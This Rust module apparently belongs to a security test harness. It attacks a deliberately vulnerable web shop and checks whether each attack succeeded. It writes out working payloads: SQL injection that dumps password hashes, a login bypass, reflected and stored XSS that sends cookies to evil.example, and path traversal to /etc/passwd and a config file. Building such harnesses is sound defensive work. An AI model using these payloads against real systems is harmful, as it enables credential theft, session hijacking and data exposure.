//! The attacks, and how to tell that one succeeded.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};

use super::http::{Reply, Shot, encode};

/// One way into the shop.
#[derive(Debug, Clone, Copy)]
pub(super) struct Attack {
    pub(super) name: &'static str,
    /// Whether attempts count as strikes; a rule about access refuses without holding it against anybody.
    pub(super) strikes: bool,
    /// The attack with the n-th of [`VARIANTS`] payloads: one payload strikes once, however often it is sent.
    shot: fn(usize) -> Shot,
    proof: Proof,
}

/// What shows that an attack went through.
#[derive(Debug, Clone, Copy)]
enum Proof {
    /// SHA-256 values in the page.
    Hashes,
    /// A session as somebody, whose account opens with it.
    LoggedIn,
    /// The page holds the script.
    Reflected,
    /// The product's page serves the script from now on.
    Stored,
    /// A file from outside the public folder.
    File,
    /// Other people's addresses.
    Customers,
}

/// Who looks at the page that an attacker left a script on.
const NEXT_VISITOR: IpAddr = IpAddr::V4(Ipv4Addr::new(203, 0, 113, 91));

/// How many payloads each attack has.
pub(super) const VARIANTS: usize = 4;

/// All attacks.
pub(super) const ATTACKS: [Attack; 7] = [
    Attack {
        name: "SQL injection in the search",
        strikes: true,
        shot: |n| {
            let payload = format!("%' UNION SELECT id,email,password_hash,0,'lamp.svg',{n} FROM users -- ");
            Shot::get(format!("/search?q={}", encode(&payload)))
        },
        proof: Proof::Hashes,
    },
    Attack {
        name: "SQL injection in the product number",
        strikes: true,
        shot: |n| {
            let payload = format!(
                "0 UNION SELECT {n},email,group_concat(password_hash,' '),0,'lamp.svg',address FROM users"
            );
            Shot::get(format!("/product?id={}", encode(&payload)))
        },
        proof: Proof::Hashes,
    },
    Attack {
        name: "SQL injection in the login",
        strikes: true,
        shot: |n| Shot::post("/login", &[("email", &format!("nobody' OR {n}={n} -- ")), ("password", "x")]),
        proof: Proof::LoggedIn,
    },
    Attack {
        name: "script in the search (reflected XSS)",
        strikes: true,
        shot: |n| {
            let payload = format!("<script>fetch('//evil.example/{n}?'+document.cookie)</script>");
            Shot::get(format!("/search?q={}", encode(&payload)))
        },
        proof: Proof::Reflected,
    },
    Attack {
        name: "script in a review (stored XSS)",
        strikes: true,
        shot: |n| {
            let text =
                format!("Lovely. <img src=x onerror=\"fetch('//evil.example/{n}?'+document.cookie)\">");
            Shot::post(
                "/review",
                &[("product", "5"), ("author", "A. Nonymous"), ("stars", "5"), ("text", &text)],
            )
        },
        proof: Proof::Stored,
    },
    Attack {
        name: "path traversal in the download",
        strikes: true,
        shot: |n| {
            let file = match n {
                0 => "../config/shop.toml".to_owned(),
                n => format!("{}etc/passwd", "../".repeat(7 + n)),
            };
            Shot::get(format!("/download?file={file}"))
        },
        proof: Proof::File,
    },
    Attack {
        name: "the open admin page",
        strikes: false,
        shot: |n| match n {
            0 | 1 => Shot::get("/admin"),
            2 => Shot::get("/%61dmin"),
            _ => Shot::get("/cart/../admin"),
        },
        proof: Proof::Customers,
    },
];

impl Attack {
    /// The attack with its `n`-th payload.
    pub(super) fn shot(&self, n: usize) -> Shot {
        (self.shot)(n)
    }

    /// Whether the reply shows that the attack succeeded, and what it brought. `at`: where it was sent, to look further there;
    /// `as_sent`: with the fields that name the client.
    ///
    /// A refused attacker asks for nothing more: its ban may close that very connection.
    pub(super) async fn harm(
        &self,
        as_sent: &Shot,
        reply: &Reply,
        at: SocketAddr,
    ) -> anyhow::Result<Option<String>> {
        let text = reply.text();
        Ok(match self.proof {
            Proof::Hashes => match hashes(&text) {
                0 => None,
                n => Some(format!("leaked {n} password hashes")),
            },
            Proof::LoggedIn => {
                let Some(cookie) = reply.field("Set-Cookie").split(';').next().filter(|c| !c.is_empty())
                else {
                    return Ok(None);
                };
                let account = Shot { fields: as_sent.fields.clone(), ..Shot::get("/account") };
                let account = account.with("Cookie", cookie).send(at).await?;
                let text = account.text();
                let name = text.split("<h1>Hello, ").nth(1).and_then(|rest| rest.split("</h1>").next());
                name.map(|name| format!("logged in as {name} without a password"))
            }
            Proof::Reflected => {
                text.contains("<script>fetch(").then(|| "the page runs the attacker's script".to_owned())
            }
            Proof::Stored => {
                let page = Shot::get("/product?id=5").from(NEXT_VISITOR).send(at).await?;
                let marker = as_sent.form.as_deref().and_then(|form| form.split("evil.example%2F").nth(1));
                let marker = marker.and_then(|rest| rest.split('%').next()).unwrap_or_default();
                let script = format!("onerror=\"fetch('//evil.example/{marker}?");
                page.text().contains(&script).then(|| "every visitor runs the attacker's script".to_owned())
            }
            Proof::File if text.contains("secret_key") => Some("read the shop's payment key".to_owned()),
            Proof::File if text.contains("root:") => Some("read /etc/passwd".to_owned()),
            Proof::File => None,
            Proof::Customers => match text.matches("@example.com").count() {
                0 => None,
                n => Some(format!("showed {n} customers' addresses")),
            },
        })
    }
}

/// Counts the SHA-256 values in a page.
fn hashes(text: &str) -> usize {
    text.split(|c: char| !c.is_ascii_hexdigit()).filter(|word| word.len() == 64).count()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn striking_attacks_have_distinct_payloads() {
        for attack in ATTACKS.iter().filter(|attack| attack.strikes) {
            let shots: HashSet<_> =
                (0..VARIANTS).map(|n| (attack.shot(n).target, attack.shot(n).form)).collect();
            assert_eq!(shots.len(), VARIANTS, "{}", attack.name);
        }
    }

    #[test]
    fn only_whole_hashes_are_counted() {
        let hash = "a".repeat(64);
        assert_eq!(hashes(&format!("<b>{hash}</b> {hash} {}", "b".repeat(63))), 2);
    }
}
